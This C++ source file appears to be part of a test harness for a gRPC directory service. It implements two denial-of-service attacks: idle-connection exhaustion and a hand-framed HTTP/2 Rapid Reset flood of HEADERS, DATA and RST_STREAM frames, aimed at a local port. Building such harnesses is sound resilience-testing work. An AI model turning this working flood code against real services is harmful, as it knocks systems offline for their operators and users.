// The attacks below gRPC: connections held idle, and HTTP/2 rapid reset
// written frame by frame on raw sockets (gRPC's client would not send it).
#include <sys/resource.h>
#include <sys/socket.h>
#include <unistd.h>

#include <atomic>
#include <string>
#include <thread>
#include <vector>

#include "absl/strings/str_cat.h"
#include "absl/time/clock.h"
#include "civhub/v1/directory.pb.h"
#include "harness/attack.h"

namespace civhub::attack {
namespace {

// Raises this process's open-file limit to its hard limit: an attacker
// holds more connections than the usual soft 1,024.
void RaiseOpenFileLimit() {
  rlimit limit{};
  if (getrlimit(RLIMIT_NOFILE, &limit) == 0 &&
      limit.rlim_cur < limit.rlim_max) {
    limit.rlim_cur = limit.rlim_max;
    (void)setrlimit(RLIMIT_NOFILE, &limit);
  }
}

bool SendAll(int fd, const std::string& bytes) {
  for (size_t off = 0; off < bytes.size();) {
    ssize_t n = send(fd, bytes.data() + off, bytes.size() - off, MSG_NOSIGNAL);
    if (n <= 0) return false;
    off += static_cast<size_t>(n);
  }
  return true;
}

bool ReadAll(int fd, char* buf, size_t size) {
  for (size_t off = 0; off < size;) {
    ssize_t n = read(fd, buf + off, size - off);
    if (n <= 0) return false;
    off += static_cast<size_t>(n);
  }
  return true;
}

class IdleConnectionsAttack : public Attack {
 public:
  IdleConnectionsAttack(int port, int count, int sources)
      : port_(port), count_(count), sources_(std::max(1, sources)) {}
  ~IdleConnectionsAttack() override { Stop(); }

  void Start() override {
    RaiseOpenFileLimit();
    for (int i = 0; i < count_ && !halted_; ++i) {
      int fd = ConnectFrom(AttackerSource(i % sources_), port_);
      if (fd < 0) {
        ++refused_;
        continue;
      }
      fds_.push_back(fd);
    }
  }
  void Stop() override {
    Halt();
    for (int fd : fds_) close(fd);
    fds_.clear();
  }
  std::string Summary() const override {
    return absl::StrCat("idle connections: ", fds_.size(), " of ", count_,
                        " held (", refused_, " refused) from ", sources_,
                        " address(es)");
  }

 private:
  const int port_, count_, sources_;
  std::vector<int> fds_;
  int refused_ = 0;
};

// HTTP/2 framing (RFC 9113) and HPACK literals (RFC 7541), just enough.
std::string Frame(uint8_t type, uint8_t flags, uint32_t stream,
                  const std::string& payload) {
  std::string f;
  const uint32_t n = static_cast<uint32_t>(payload.size());
  f.push_back(static_cast<char>(n >> 16));
  f.push_back(static_cast<char>(n >> 8));
  f.push_back(static_cast<char>(n));
  f.push_back(static_cast<char>(type));
  f.push_back(static_cast<char>(flags));
  for (int shift = 24; shift >= 0; shift -= 8)
    f.push_back(
        static_cast<char>((stream >> shift) & (shift == 24 ? 0x7f : 0xff)));
  return f + payload;
}

void HpackInt(std::string* out, uint8_t first, int prefix_bits, size_t v) {
  const size_t max = (1u << prefix_bits) - 1;
  if (v < max) {
    out->push_back(static_cast<char>(first | v));
    return;
  }
  out->push_back(static_cast<char>(first | max));
  v -= max;
  while (v >= 128) {
    out->push_back(static_cast<char>((v % 128) + 128));
    v /= 128;
  }
  out->push_back(static_cast<char>(v));
}

// A literal header field without indexing, new name, no Huffman coding.
void HpackLiteral(std::string* out, const std::string& name,
                  const std::string& value) {
  out->push_back(0x00);
  HpackInt(out, 0, 7, name.size());
  out->append(name);
  HpackInt(out, 0, 7, value.size());
  out->append(value);
}

constexpr uint8_t kData = 0, kHeaders = 1, kRstStream = 3, kSettings = 4,
                  kPing = 6, kGoaway = 7, kWindowUpdate = 8;
constexpr uint8_t kEndStream = 1, kAck = 1, kEndHeaders = 4;

class RapidResetAttack : public Attack {
 public:
  RapidResetAttack(int port, int connections, double streams_per_second,
                   int64_t max_streams)
      : port_(port),
        connections_(std::max(1, connections)),
        rate_(streams_per_second),
        max_streams_(max_streams) {
    HpackLiteral(&headers_, ":method", "POST");
    HpackLiteral(&headers_, ":scheme", "http");
    HpackLiteral(&headers_, ":path", "/civhub.v1.Directory/Search");
    HpackLiteral(&headers_, ":authority", absl::StrCat("127.0.0.1:", port));
    HpackLiteral(&headers_, "content-type", "application/grpc");
    HpackLiteral(&headers_, "te", "trailers");
    const std::string message = CostlySearch(0).SerializeAsString();
    message_.push_back(0);  // Not compressed.
    for (int shift = 24; shift >= 0; shift -= 8)
      message_.push_back(static_cast<char>(message.size() >> shift));
    message_ += message;
  }
  ~RapidResetAttack() override { Stop(); }

  void Start() override {
    start_ = absl::Now();
    for (int i = 0; i < connections_; ++i) {
      fds_.emplace_back(std::make_unique<std::atomic<int>>(-1));
    }
    for (int i = 0; i < connections_; ++i) {
      threads_.emplace_back([this, i] { Run(i); });
    }
    // Under way once the first streams went out.
    const absl::Time give_up = absl::Now() + absl::Seconds(5);
    while (streams_ == 0 && absl::Now() < give_up && !halted_)
      absl::SleepFor(absl::Milliseconds(5));
  }
  void Stop() override {
    Halt();
    for (auto& fd : fds_) {
      int f = fd->load();
      if (f >= 0) shutdown(f, SHUT_RDWR);
    }
    for (std::thread& t : threads_) t.join();
    threads_.clear();
    if (end_ == absl::InfinitePast()) end_ = absl::Now();
  }
  std::string Summary() const override {
    const absl::Time end = end_ == absl::InfinitePast() ? absl::Now() : end_;
    const double seconds = absl::ToDoubleSeconds(end - start_);
    return absl::StrCat(
        "rapid reset: ", streams_.load(), " streams (",
        static_cast<int64_t>(seconds > 0 ? streams_ / seconds : 0), "/s, ",
        with_data_.load(), " with a query) on ", connects_.load(),
        " connections, ", goaways_.load(), " GOAWAY, ",
        connect_failures_.load(), " failed connects");
  }

 private:
  struct Connection {
    int fd = -1;
    std::mutex write_mu;
    std::atomic<bool> closed{false};
    std::atomic<int64_t> window{65535};  // Ours to send DATA into.
  };

  bool Write(Connection* c, const std::string& bytes) {
    std::lock_guard<std::mutex> lock(c->write_mu);
    return SendAll(c->fd, bytes);
  }

  // Reads and discards what the server sends; answers SETTINGS and PING.
  void Read(Connection* c) {
    char header[9];
    std::string payload;
    while (ReadAll(c->fd, header, sizeof(header))) {
      const size_t n = (static_cast<uint8_t>(header[0]) << 16) |
                       (static_cast<uint8_t>(header[1]) << 8) |
                       static_cast<uint8_t>(header[2]);
      const uint8_t type = static_cast<uint8_t>(header[3]);
      const uint8_t flags = static_cast<uint8_t>(header[4]);
      payload.resize(n);
      if (n > 0 && !ReadAll(c->fd, payload.data(), n)) break;
      const uint32_t stream = ((static_cast<uint8_t>(header[5]) & 0x7f) << 24) |
                              (static_cast<uint8_t>(header[6]) << 16) |
                              (static_cast<uint8_t>(header[7]) << 8) |
                              static_cast<uint8_t>(header[8]);
      if (type == kSettings && !(flags & kAck)) {
        Write(c, Frame(kSettings, kAck, 0, ""));
      } else if (type == kPing && !(flags & kAck)) {
        Write(c, Frame(kPing, kAck, 0, payload));
      } else if (type == kWindowUpdate && stream == 0 && n == 4) {
        c->window += ((static_cast<uint8_t>(payload[0]) & 0x7f) << 24) |
                     (static_cast<uint8_t>(payload[1]) << 16) |
                     (static_cast<uint8_t>(payload[2]) << 8) |
                     static_cast<uint8_t>(payload[3]);
      } else if (type == kGoaway) {
        ++goaways_;
        break;
      }
    }
    c->closed = true;
  }

  void Run(int index) {
    const std::string rst_payload("\0\0\0\x08", 4);  // CANCEL
    while (!halted_) {
      Connection c;
      c.fd = ConnectFrom(AttackerSource(0), port_);
      if (c.fd < 0) {
        ++connect_failures_;
        absl::SleepFor(absl::Milliseconds(50));
        continue;
      }
      fds_[index]->store(c.fd);
      if (halted_) shutdown(c.fd, SHUT_RDWR);
      ++connects_;
      std::string hello = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
      hello += Frame(kSettings, 0, 0, "");
      hello += Frame(kWindowUpdate, 0, 0, std::string("\x7f\xff\x00\x00", 4));
      std::thread reader;
      if (Write(&c, hello)) reader = std::thread([this, &c] { Read(&c); });
      uint32_t id = 1;
      while (reader.joinable() && !halted_ && !c.closed && id < 0x7fff0000) {
        std::string batch;
        for (int k = 0; k < 16; ++k, id += 2) {
          batch += Frame(kHeaders, kEndHeaders, id, headers_);
          if (c.window >= static_cast<int64_t>(message_.size())) {
            c.window -= static_cast<int64_t>(message_.size());
            batch += Frame(kData, kEndStream, id, message_);
            ++with_data_;
          }
          batch += Frame(kRstStream, 0, id, rst_payload);
        }
        if (!Write(&c, batch)) break;
        if ((streams_ += 16) >= max_streams_ && max_streams_ > 0) Halt();
        if (rate_ > 0) {
          const absl::Time due = start_ + absl::Seconds(streams_ / rate_);
          const absl::Time now = absl::Now();
          if (due > now) absl::SleepFor(due - now);
        }
      }
      shutdown(c.fd, SHUT_RDWR);
      if (reader.joinable()) reader.join();
      fds_[index]->store(-1);
      close(c.fd);
    }
  }

  const int port_, connections_;
  const double rate_;
  const int64_t max_streams_;
  std::string headers_, message_;
  absl::Time start_ = absl::Now(), end_ = absl::InfinitePast();
  std::vector<std::unique_ptr<std::atomic<int>>> fds_;
  std::vector<std::thread> threads_;
  std::atomic<int64_t> streams_{0}, with_data_{0}, connects_{0}, goaways_{0},
      connect_failures_{0};
};

}  // namespace

std::unique_ptr<Attack> IdleConnections(int port, int count, int sources) {
  return std::make_unique<IdleConnectionsAttack>(port, count, sources);
}
std::unique_ptr<Attack> RapidReset(int port, int connections,
                                   double streams_per_second,
                                   int64_t max_streams) {
  return std::make_unique<RapidResetAttack>(port, connections,
                                            streams_per_second, max_streams);
}
}  // namespace civhub::attack
